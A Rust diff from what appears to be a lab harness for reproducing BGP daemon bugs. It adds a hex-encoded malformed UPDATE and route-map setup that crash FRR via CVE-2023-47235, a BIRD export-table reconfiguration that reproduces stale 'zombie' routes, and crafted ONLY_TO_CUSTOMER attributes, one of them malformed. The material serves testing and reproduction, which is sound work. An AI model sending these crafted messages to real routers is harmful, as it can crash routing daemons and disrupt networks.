@@ -80,6 +80,31 @@ pub mod cve_2023_46753 {
     }
 }
 
+/// CVE-2023-47235: FRR up to 9.0 with a route-map that prepends dies of an UPDATE that it takes for End-of-RIB although there are prefixes
+/// behind it, one of them impossible.
+pub mod cve_2023_47235 {
+    use crate::daemons::Instance;
+    use crate::lab::Netns;
+    use crate::operate;
+    use anyhow::Result;
+    use std::net::IpAddr;
+
+    /// UPDATE: one unknown attribute without a value, and prefixes of which the third is longer than any.
+    pub const UPDATE: &str = "ffffffffffffffffffffffffffffffff002b0200000003c0ff00010100eb00ac100b0b001ad908ac100b0b";
+
+    /// What the session offers beside IPv4, 4-octet ASes and route refresh: graceful restart, and IPv6.
+    pub const OFFER: [&str; 3] = ["--graceful-restart", "--capability", "1:00020001"];
+
+    /// Gives a running FRR a route-map that prepends, for everything this neighbour says.
+    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
+        let commands = format!(
+            "configure terminal\nbgp route-map delay-timer 0\nroute-map ALL permit 10\nset as-path prepend 65000\n\
+             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map ALL in"
+        );
+        operate::control(frr, ns, &commands).map(|_| ())
+    }
+}
+
 /// BIRD up to 2.17.4 with a path mask in a filter runs over an array where the path has some thousands of ASes; extended messages
 /// (RFC 8654) carry one.
 pub mod as_path_mask {
@@ -129,5 +154,46 @@ pub mod as_path_mask {
         message.extend(attributes);
         message.extend(nlri);
         message.iter().map(|b| format!("{b:02x}")).collect()
+    }
+}
+
+/// BIRD 2.0.7 with `export table on` keeps telling a neighbour of the better route after it was withdrawn, where what is left came first.
+pub mod zombie {
+    use crate::daemons::Instance;
+    use crate::lab::Lab;
+    use anyhow::{Context, Result, ensure};
+    use std::fs;
+
+    /// Starts a BIRD again with an export table towards its `index`th neighbour, counted from 0.
+    pub fn configure(bird: &mut Instance, lab: &Lab, index: usize) -> Result<()> {
+        let path = bird.folder().join("bgp.conf");
+        let text = fs::read_to_string(&path).context("BIRD's configuration")?;
+        let protocol = format!("protocol bgp peer{index} {{");
+        let (before, after) = text.split_once(&protocol).context("BIRD's configuration has no such neighbour")?;
+        let plain = "export filter to_peer; }";
+        ensure!(after.contains(plain), "BIRD's configuration has no channel to change: {after}");
+        let after = after.replacen(plain, "export filter to_peer; export table on; }", 1);
+        fs::write(&path, format!("{before}{protocol}{after}"))?;
+        bird.stop();
+        bird.launch(lab)
+    }
+}
+
+/// BIRD before 2.0.8 keeps the flags of an attribute that it does not know, "extended length" among them, but writes a short one's length in
+/// one octet: whoever reads it takes the first octet of the value for a part of the length, 1024 for ONLY_TO_CUSTOMER (RFC 9234).
+pub mod only_to_customer {
+    use crate::lab::Site;
+    use crate::odd;
+
+    /// ONLY_TO_CUSTOMER as RFC 9234 has it, with its length in two octets (RFC 4271 section 4.3 allows that).
+    pub const EXTENDED: [u8; 8] = [0xd0, 35, 0, 4, 0, 0, 0xfd, 0xe9];
+    /// Of five octets: malformed (RFC 9234 section 5).
+    pub const TOO_LONG: [u8; 8] = [0xc0, 35, 5, 0, 0, 0xfd, 0xe9, 0];
+
+    /// UPDATE of this site for 198.51.100.0/24 with the attribute, in hexadecimal.
+    pub fn update(site: &Site, attribute: &[u8]) -> String {
+        let mut attributes = odd::attributes(site);
+        attributes.extend_from_slice(attribute);
+        odd::hex(&odd::update(&attributes, &[24, 198, 51, 100]))
     }
 }
